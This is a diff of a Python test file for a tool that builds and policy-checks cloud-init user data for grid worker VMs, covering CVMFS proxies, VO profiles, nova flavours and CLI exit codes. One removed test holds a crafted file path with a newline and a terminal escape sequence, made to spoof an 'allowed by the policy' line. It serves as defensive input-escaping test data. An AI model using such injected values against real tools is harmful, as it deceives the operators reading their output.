-    lines, problems = context.explain(data, site)
-    assert lines[1].startswith("part-001: shell script")
-    assert any("rsyslog" in p for p in problems)
-    assert any("ca_certs" in p for p in problems)
-    assert "the site's CVMFS proxy is not configured" in problems
-
-
-def test_check_of_user_data_built_for_another_site_is_refused(tmp_path, built):
-    site, _, data = built
-    other = context.load_site(
-        site_file(
-            tmp_path,
-            **{
-                "cvmfs.proxy": "http://other.example.org:3128",
-                "syslog": ["@other.example.org:514"],
-            },
-        )
-    )
-    problems = context.explain(data, other)[1]
-    assert any("rsyslog" in p for p in problems)
-    assert problems[-1] == (
-        "the site's CVMFS proxy is not configured: /etc/cvmfs/default.local sets "
-        f"CVMFS_HTTP_PROXY to {PROXY!r}"
-    )
-    assert context.explain(data, site)[1] == []
-
-
-def test_cli_check_exit_status(tmp_path, built):
-    site, vo, _ = built
-    site_path = site_file(tmp_path)
-    good = tmp_path / "good"
-    good.write_bytes(context.build(site, vo, compress=True))
-    result = run_cli("context", "check", str(good), "--site", str(site_path))
+def test_cli_build_takes_the_flavour(tmp_path):
+    result = run_cli(
+        "context", "build", "--site", str(site_file(tmp_path)), "--vo", str(vo_file(tmp_path)),
+        "--vcpus", "4", "--ram-mb", "8000", "--swap-mb", "0", "--scratch-gb", "20",
+    )  # fmt: skip
     assert result.returncode == 0, result.stderr
-    assert result.stdout.decode().splitlines()[-1] == "allowed by the policy of site EXAMPLE-SITE"
-    assert result.stderr == b""
+    flavour = context.Flavour(vcpus=4, ram_mb=8000, swap_mb=0, scratch_gb=20)
+    assert result.stdout == context.build(*load(tmp_path), flavour=flavour)
+    bad = run_cli("context", "build", "--site", "s", "--vo", "v", "--vcpus", "0")
+    assert bad.returncode == 2 and b"--vcpus" in bad.stderr
 
-    config, parts = compose(site, vo)
-    config["bootcmd"] = ["echo early"]
-    bad = tmp_path / "bad"
-    bad.write_bytes(package(config, parts))
-    result = run_cli("context", "check", str(bad), "--site", str(site_path))
+
+def test_cli_launch_refuses_a_vo_profile_before_any_cloud_is_contacted(tmp_path):
+    from vmtrust.record import generate_key_pair
+
+    key = generate_key_pair(tmp_path / "seal.key")
+    result = run_cli(
+        "launch", "--cloud", "nowhere", "--clouds-file", str(tmp_path / "none.yaml"),
+        "--vo", "cms", "--flavor", "wn", "--seal-key", str(key), "--owner", "p",
+        "--site", str(site_file(tmp_path)),
+        "--vo-profile", str(vo_file(tmp_path, bootcmd=["x"], packages=["nginx"])),
+    )  # fmt: skip
     assert result.returncode == 20
-    assert "refused: 00-vmtrust.cfg: bootcmd: " in result.stdout.decode()
-    err = result.stderr.decode()
-    assert err.count("\n") == 1 and "1 thing(s) the policy of site EXAMPLE-SITE refuses" in err
-    assert "Traceback" not in err
-
-    # without a site it only explains; from stdin too
-    result = run_cli("context", "check", "-", stdin=bad.read_bytes())
-    assert result.returncode == 0
-    assert "  sets bootcmd" in result.stdout.decode()
+    lines = result.stderr.decode().splitlines()
+    assert [line.split(": ")[2] for line in lines] == ["bootcmd", "packages"]
 
 
-def test_cli_check_prints_untrusted_text_as_single_lines(tmp_path, built):
-    site, vo, _ = built
-    config, parts = compose(site, vo)
-    config["write_files"].append({"path": "/opt/x\nallowed by the policy\x1b[2J", "content": ""})
-    data = tmp_path / "ud"
-    data.write_bytes(package(config, parts))
-    result = run_cli("context", "check", str(data), "--site", str(site_file(tmp_path)))
-    assert result.returncode == 20
-    out = result.stdout.decode()
-    assert "must be a path of printable characters" in out
-    assert "\x1b" not in out and "\x1b" not in result.stderr.decode()
-    assert not any(line.startswith("allowed by the policy") for line in out.splitlines())
-    assert "  writes /opt/x\\nallowed by the policy\\x1b[2J (mode 0644, owner root:root)" in out
+def find_flavour_from(reply: dict) -> tuple[str, context.Flavour]:
+    """find_flavour against nova's /flavors/detail answer (the cloud is the boundary here;
+    tests/with_nova asks nova's own API)."""
+    from types import SimpleNamespace
+
+    from vmtrust import launch
+
+    answer = SimpleNamespace(status_code=200, text="", json=lambda: reply)
+    compute = SimpleNamespace(request=lambda url, method, **kw: answer)
+    return launch.find_flavour(SimpleNamespace(compute=compute), "wn")
 
 
-def test_cli_check_unreadable_user_data(tmp_path):
-    result = run_cli("context", "check", str(tmp_path / "missing"))
-    assert result.returncode == 3
-    err = result.stderr.decode()
-    assert err.count("\n") == 1 and "Traceback" not in err
+@pytest.mark.parametrize(
+    ("item", "flavour"),
+    [
+        ({"vcpus": 8, "ram": 16384, "disk": 20, "OS-FLV-EXT-DATA:ephemeral": 80, "swap": 1024},
+         context.Flavour(8, 16384, 1024, 80)),
+        ({"vcpus": 2, "ram": 4096, "disk": 40, "OS-FLV-EXT-DATA:ephemeral": 0, "swap": ""},
+         context.Flavour(2, 4096, 0, 40)),
+        ({"vcpus": 2, "ram": 4096, "disk": 0, "swap": ""}, context.Flavour(2, 4096, 0, None)),
+        ({"vcpus": "2", "ram": None}, context.Flavour(None, None, 0, None)),
+    ],
+    ids=["ephemeral", "root-disk", "boot-from-volume", "odd-values"],
+)  # fmt: skip
+def test_the_flavour_is_read_as_nova_gives_it(item, flavour):
+    reply = {"flavors": [{"id": "f1", "name": "other"}, {"id": "f2", "name": "wn", **item}]}
+    assert find_flavour_from(reply) == ("f2", flavour)
 
 
 def test_shipped_sample_profiles_build_and_pass_their_own_check():
-    """etc/vmtrust/context/ stays a working example."""
+    """etc/vmtrust/context/ stays a working example, each site with the sample VO."""
     root = Path(__file__).resolve().parent.parent / "etc" / "vmtrust" / "context"
-    site = context.load_site(root / "site.yaml")
-    data = context.build(site, context.load_vo(root / "vo.yaml", site))
-    assert context.explain(data, site)[1] == []
-    assert site.cvmfs is not None and site.cvmfs.proxy in data.decode()
+    sites = sorted(root.glob("site*.yaml"))
+    assert len(sites) >= 2
+    for path in sites:
+        site = context.load_site(path)
+        data = context.build(site, context.load_vo(root / "vo.yaml", site))
+        assert context.explain(data, site)[1] == [], path
+        assert site.cvmfs is not None and site.cvmfs.proxy in data.decode()
+
+
+def test_compose_gives_the_parts_in_the_order_cloud_init_runs_them(built):
+    site, vo, _ = built
+    _, parts = compose(site, vo)
+    names = [p.filename for p in parts]
+    assert (
+        names
+        == sorted(names)
+        == [scripts.MACHINE, scripts.SOFTWARE, scripts.VO_COMMANDS, scripts.PILOT]
+    )
+    assert all(p.body.startswith("#!/bin/sh\n") for p in parts)
+    assert VO["pilot"]["command"] not in "".join(p.body for p in parts)  # only in pilot-start
